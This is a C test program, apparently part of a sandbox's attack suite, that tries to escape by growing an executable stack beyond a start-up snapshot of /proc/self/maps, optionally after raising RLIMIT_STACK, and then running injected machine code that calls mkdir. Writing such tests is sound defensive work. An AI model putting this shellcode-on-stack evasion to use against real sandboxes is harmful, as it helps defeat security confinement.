/* SPDX-License-Identifier: ISC */
/*
 * escape_execstack MARK [far] (attack 5), linked with -z execstack: the
 * main thread's stack is executable.  At start-up it is one small
 * mapping; we grow it about 1 MiB further down (well within
 * RLIMIT_STACK), past the extent any start-up snapshot of /proc/self/maps
 * saw, copy `mov $83,%eax; syscall; ret` there and call it: mkdir(MARK).
 * With "far" (attack execstack-far) RLIMIT_STACK is raised first and the
 * stack grown 24 MiB: past what the limit at the exec allowed.  Stopped:
 * killed (or the stack is not executable, or cannot grow: exit 3).
 */
#include <sys/resource.h>
#include <alloca.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

static const uint8_t code[] = { 0xb8, 83, 0, 0, 0, 0x0f, 0x05, 0xc3 };

/* The permissions of the mapping that holds addr. */
static int
perms(const void *addr, char perm[8])
{
	unsigned long lo, hi, a = (unsigned long)addr;
	char line[512];
	FILE *f = fopen("/proc/self/maps", "re");
	int found = 0;

	while (f != NULL && !found && fgets(line, sizeof(line), f) != NULL)
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perm) == 3 &&
		    a >= lo && a < hi)
			found = 1;
	if (f != NULL)
		fclose(f);
	return found ? 0 : -1;
}

static size_t size = 1u << 20;

static __attribute__((noinline)) long
deep(const char *mark)
{
	volatile uint8_t *buf = alloca(size);
	char perm[8];

	/* touch from the top down, one page at a time: the stack grows */
	for (size_t off = size; off >= 4096; off -= 4096)
		buf[off - 4096] = 0;
	memcpy((void *)buf, code, sizeof(code));
	if (perms((const void *)buf, perm) == -1 || perm[2] != 'x') {
		printf("stack at %p is not executable (%s)\n", (void *)buf,
		    perm);
		return -1000;
	}
	printf("calling code on the stack at %p (%s)\n", (void *)buf, perm);
	return ((long (*)(const char *, long))buf)(mark, 0755);
}

int
main(int argc, char **argv)
{
	long r;

	struct rlimit rl = { RLIM_INFINITY, RLIM_INFINITY };

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc != 2 && (argc != 3 || strcmp(argv[2], "far") != 0))
		return 2;
	if (argc == 3) {
		if (setrlimit(RLIMIT_STACK, &rl) == -1) {	/* not root */
			getrlimit(RLIMIT_STACK, &rl);
			rl.rlim_cur = rl.rlim_max;
			setrlimit(RLIMIT_STACK, &rl);
		}
		size = 24u << 20;
	}
	r = deep(argv[1]);
	printf("mkdir returned %ld\n", r);
	return r == 0 ? 0 : 3;
}
